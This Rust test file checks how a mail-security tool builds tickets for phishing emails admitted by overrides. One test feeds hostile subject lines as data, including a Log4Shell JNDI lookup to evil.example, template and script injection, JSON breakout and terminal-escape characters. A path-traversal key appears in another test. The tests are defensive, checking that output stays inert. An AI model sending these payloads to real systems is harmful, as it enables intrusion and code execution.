//! Tests of a ticket's text: what it tells, how large it gets, and that text out of mails stays text.

use serde_json::Value;

use super::*;
use crate::domain::{Decision, Direction, Effect, Level, Outcome, OverrideKind, Verdict};

const PORTAL: &str = "https://security.microsoft.com";

fn mail(subject: &str, more: usize) -> Event {
    let row = serde_json::json!({
        "NetworkMessageId": "7250ff78-0000-4000-8000-000000000001",
        "Subject": subject,
        "SenderFromAddress": "billing@fabrikam.example",
        "RecipientEmailAddress": "Ada@contoso.example",
        "ThreatTypes": "Phish",
        "DeliveryLocation": "Inbox/folder",
        "AdditionalFields": "x".repeat(more),
    });
    let mut event = crate::sink::tests::event(&row.to_string());
    event.key = Some("7250ff78-0000-4000-8000-000000000001".into());
    event.recipient = Some("ada@contoso.example".into());
    event.decision = Decision {
        tags: [Tag::AllowedHcPhish, Tag::OverrideAllow].into_iter().collect(),
        verdict: Some(Verdict::HcPhish),
        outcome: Some(Outcome::Delivered),
        overrides: vec![Override {
            level: Level::Tenant,
            direction: Direction::Allow,
            kind: OverrideKind::TransportRule,
            policy: "Exchange transport rule".into(),
            effect: Effect::Effective,
            why: None,
            certainty: None,
            primary: true,
        }],
        ..Decision::default()
    };
    event
}

fn read(event: &Event) -> Value {
    let bytes = body(event, "0123", PORTAL);
    assert!(bytes.len() <= BODY_CAP, "{} bytes", bytes.len());
    serde_json::from_slice(&bytes).unwrap()
}

#[test]
fn a_ticket_says_what_happened_to_whom_and_which_override_let_it_in() {
    let body = read(&mail("Rechnung fällig", 0));
    assert_eq!(body["type"], "mail.override.allowed");
    assert_eq!(body["timestamp"], "2026-08-20T09:11:04Z");
    let data = &body["data"];
    assert_eq!(data["key"], "0123");
    assert_eq!(data["severity"], "high");
    assert_eq!(data["title"], "High-confidence phish was let in by an override: Rechnung fällig");
    let summary: Vec<&str> =
        data["summary"].as_array().unwrap().iter().map(|line| line.as_str().unwrap()).collect();
    for expected in [
        "To: Ada@contoso.example",
        "From: billing@fabrikam.example",
        "Override: tenant allow transport_rule (decided), effective: Exchange transport rule",
        "The filter said: hc_phish; ThreatTypes: Phish",
        "Where it ended up: delivered (Inbox/folder)",
    ] {
        assert!(summary.contains(&expected), "{expected:?} is not in {summary:#?}");
    }
    assert_eq!(data["tags"][0], "allowed.hc_phish");
    assert_eq!(data["event"]["raw"]["Subject"], "Rechnung fällig");
    let href = data["links"][0]["href"].as_str().unwrap();
    assert!(href.starts_with("https://security.microsoft.com/emailentity?f=summary&id=7250ff78-"));
    assert!(href.contains("recipient=ada%40contoso.example"), "{href}");
}

#[test]
fn a_large_event_is_shortened_and_says_so() {
    let small = read(&mail("x", 1000));
    assert!(small["data"].get("event_shortened").is_none());
    let large = read(&mail("x", 100_000));
    assert_eq!(large["data"]["event_shortened"], true);
    assert!(large["data"]["event"].get("raw").is_none());
    assert_eq!(large["data"]["event"]["kind"], "email");
    let mut many = mail("x", 0);
    let one = many.decision.overrides[0].clone();
    many.decision.overrides = vec![Override { policy: "p".repeat(5000).into(), ..one }; 50];
    assert_eq!(read(&many)["data"]["event_shortened"], true);
}

/// Rows S22, S23 and S26 of the security list.
#[test]
fn text_out_of_a_mail_stays_text() {
    for subject in [
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "{% include 'x' %}",
        "</script><script>alert(1)</script>",
        "\"}],\"severity\":\"info\",\"x\":[{\"",
        "<!channel> @here [click](https://evil.example)",
        "line\r\nSeverity: none\u{1b}[2J\u{202e}",
    ] {
        let body = read(&mail(subject, 0));
        let data = &body["data"];
        assert_eq!(data["severity"], "high", "{subject}");
        assert_eq!(data["event"]["raw"]["Subject"], subject.trim(), "{subject}");
        let shown = format!("{}{}", data["title"], data["summary"]);
        for dangerous in ["://evil", "<", "](", "@here", "\\r", "\\n", "\u{1b}", "\u{202e}"] {
            assert!(!shown.contains(dangerous), "{dangerous:?} in {shown}");
        }
        assert!(!shown.contains("49"), "{shown}");
    }
}

#[test]
fn hostile_ids_do_not_leave_their_place_in_a_link() {
    let mut event = mail("x", 0);
    event.kind = Kind::Alert;
    event.key = Some("../../evil?x=1#y".into());
    let body = read(&event);
    let href = body["data"]["links"][0]["href"].as_str().unwrap();
    let url = reqwest::Url::parse(href).unwrap();
    assert_eq!(url.host_str(), Some("security.microsoft.com"));
    assert_eq!(url.path(), "/alerts/..%2F..%2Fevil%3Fx=1%23y");
}

#[test]
fn the_same_event_gives_the_same_bytes() {
    let event = mail("x", 50_000);
    assert_eq!(body(&event, "k", PORTAL), body(&event.clone(), "k", PORTAL));
}
